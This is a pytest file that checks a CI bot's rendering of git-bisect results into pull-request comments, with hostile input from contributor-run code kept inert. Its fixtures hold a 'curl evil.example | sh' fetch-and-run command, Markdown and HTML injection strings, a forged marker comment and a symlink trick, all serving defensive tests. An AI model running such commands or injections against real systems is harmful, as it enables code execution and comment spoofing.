"""What a search answers: checked, since the machine that wrote it ran a contributor's code, and then said."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from kernelgate.ci.commands.cli import run as kernelgate
from kernelgate.ci.github.bisect import NO_ANSWER, BisectRequest, put_search, text_of
from tests.ci.desk import Desk

GOOD, BAD, CULPRIT, STRANGE, INNER = "a" * 40, "b" * 40, "c" * 40, "d" * 40, "e" * 40
TIME = BisectRequest(GOOD, BAD, "", "time")
HOSTILE = "@octocat <img src=x> [a](https://evil.example) `x` <!-- kernelgate-bisect run=77 -->\n# big"

SEARCHED: dict[str, Any] = {"ends": [GOOD, BAD], "commits": 9, "tried": 4, "subjects": {}, "inside": None}
SEARCHED |= {"found": "found", "culprits": [CULPRIT]}
TIMED = SEARCHED | {"case": "attention/s512", "change_pct": 1.02, "interval_pct": [0.93, 1.11], "chance": 0.9991}
TIMED |= {"several": [], "stepped_over": {STRANGE: HOSTILE}, "processes": 4}
FAILING = SEARCHED | {"case": "attention/edge_s65", "seed": 7, "chance": 0.999, "stepped_over": {}, "fault": HOSTILE}
FAILING |= {"repeat": "curl evil.example | sh", "failed": 20, "runs": 20, "passes": 3}
COMPILED: dict[str, Any] = {"last_that_compiles": GOOD, "culprits": [CULPRIT], "why": HOSTILE, "subjects": {}}


def said(desk: Desk, folder: Path, answer: object, asked: BisectRequest = TIME) -> str:
    text = answer if isinstance(answer, str) else json.dumps(answer)
    (folder / "answer.json").write_text(text, "utf-8")
    return text_of(desk.bot, folder, asked)


@pytest.fixture(autouse=True)
def line(desk: Desk) -> None:
    """STRANGE is a commit that is not of the range."""
    desk.github.merge_bases[STRANGE, BAD] = GOOD


def test_which_commit_how_much_how_sure_and_how_to_repeat_it(desk: Desk, tmp_path: Path) -> None:
    text = said(desk, tmp_path, TIMED)
    assert text.startswith(f"**Since** [`{CULPRIT[:7]}`](https://github.com/octo-org/kernels/commit/{CULPRIT})\n")
    assert "attention/s512: 1.02% slower (0.93 to 1.11%), probability 99.9%" in text
    assert "4 times side by side" in text
    assert "Stepped over dddddddddddd" in text
    assert f"kernelgate bisect {GOOD} {BAD} --case attention/s512" in text


def test_a_fuzz_case_and_a_compile_have_theirs(desk: Desk, tmp_path: Path) -> None:
    for answer in (FAILING, FAILING | {"inside": FAILING | {"culprits": [INNER], "submodule": "x"}}):
        text = said(desk, tmp_path, answer, BisectRequest(GOOD, BAD, "edge_s65", "fuzz"))
        assert "fails since, probability 99.9%" in text
        assert "fails in 20 of 20 runs at bbbbbbbbbbbb" in text
        assert f"kernelgate bisect {GOOD} {BAD} --fuzz --case attention/edge_s65 --seed 7" in text
        assert "curl" not in text, "the command to repeat is ours"
    nothing = {"found": "none", "culprits": [], "why": "all pass"}
    assert "all pass" in said(desk, tmp_path, nothing, BisectRequest(GOOD, BAD, "", "fuzz"))
    built = said(desk, tmp_path, COMPILED, BisectRequest(GOOD, BAD, "", "build"))
    assert "**Does not compile since** [" in built
    assert f"kernelgate bisect {GOOD} {BAD} --build" in built


NESTED: dict[str, Any] = TIMED
for _ in range(5):
    NESTED = {**TIMED, "inside": {**NESTED, "submodule": "x"}}

REFUSED: dict[str, Any] = {
    "a sha that is none": {**TIMED, "culprits": ["not-a-commit"]},
    "a sha with an end of line": {**TIMED, "culprits": [CULPRIT + "\n"]},
    "a commit of elsewhere": {**TIMED, "culprits": [STRANGE]},
    "the good end": {**TIMED, "culprits": [GOOD]},
    "several of elsewhere": {**TIMED, "found": "several", "several": [{"commit": STRANGE, "change_pct": 1.0}]},
    "found without a commit": {**TIMED, "culprits": []},
    "another case": {**TIMED, "case": "attention/other"},
    "a case of Markdown": {**TIMED, "case": "[a](https://evil.example)"},
    "a text too long": {**TIMED, "stepped_over": {STRANGE: "x" * 10_001}},
    "a file too long": "[" + " " * (1 << 20) + "]",
    "deep brackets": "[" * 100_000,
    "submodules without an end": NESTED,
    "no number": json.dumps({**TIMED, "change_pct": float("nan")}),
    "more certain than certain": {**TIMED, "chance": 1.01},
    "a key twice": json.dumps(TIMED)[:-1] + ', "processes": 5}',
    "a key of its own": {**TIMED, "script": "x"},
    "another kind": FAILING,
    "no JSON": "hello",
}


@pytest.mark.parametrize("what", REFUSED)
def test_an_answer_that_is_not_one_is_refused_in_a_sentence(desk: Desk, tmp_path: Path, what: str) -> None:
    asked = BisectRequest(GOOD, BAD, "s512", "time")
    text = said(desk, tmp_path, REFUSED[what], asked)
    assert text.startswith("**No answer:**"), text
    assert "evil.example" not in text
    assert f"kernelgate bisect {GOOD} {BAD} --case s512" in text


@pytest.mark.parametrize(("answer", "kind"), [(TIMED, "time"), (FAILING, "fuzz"), (COMPILED, "build")])
def test_hostile_words_of_an_answer_stay_words(desk: Desk, tmp_path: Path, answer: object, kind: Any) -> None:
    text = said(desk, tmp_path, answer, BisectRequest(GOOD, BAD, "", kind))
    assert "@octocat" in text
    assert "<!--" not in text
    [block] = [one for one in MarkdownIt().parse(text) if one.type == "fence" and "@octocat" in one.content]
    assert "# big" in block.content, "all of it is one block of text"


def test_without_an_answer_the_reason_is_said(desk: Desk, tmp_path: Path) -> None:
    """A link in its place is not followed."""
    (tmp_path / "secret").write_text(json.dumps(TIMED))
    (tmp_path / "answer.json").symlink_to(tmp_path / "secret")
    assert "answer.json is refused: it is not a plain file" in text_of(desk.bot, tmp_path, TIME).replace("`", "")
    (tmp_path / "answer.json").unlink()
    assert NO_ANSWER.split(",")[0] in text_of(desk.bot, tmp_path, TIME)
    note = {"schema": "kernelgate.failure/1", "fault": "runner", "message": f"no compiler {HOSTILE}"}
    (tmp_path / "failure.json").write_text(json.dumps(note))
    text = text_of(desk.bot, tmp_path, TIME)
    assert text.startswith("**No answer:** no compiler `")
    assert "<!--" not in text


def test_one_comment_begun_becomes_the_answer(desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    pull = desk.github.open_pull(head_sha=BAD)
    desk.github.comment(pull.number, "mine\n<!-- kernelgate-bisect run=77 -->", author="mallory")
    put_search(desk.bot, pull.number, "begun")
    (tmp_path / "answer.json").write_text(json.dumps(TIMED))
    for name, value in desk.bot.step.environment.items():
        monkeypatch.setenv(name, value)
    words = ["step", "bisected", "--from", str(tmp_path), "--good", GOOD, "--bad", BAD, "--post"]
    assert kernelgate([*words, "--number", str(pull.number)]) == 0
    other, own = desk.github.bodies(pull.number)
    assert other.startswith("mine")
    assert "1.02% slower" in own
    assert own.endswith("<!-- kernelgate-bisect run=77 -->")
    assert "1.02% slower" in desk.summary
    writes = len(desk.github.writes())
    assert kernelgate(words) == 0
    assert len(desk.github.writes()) == writes, "a dispatch without a number has the summary alone"
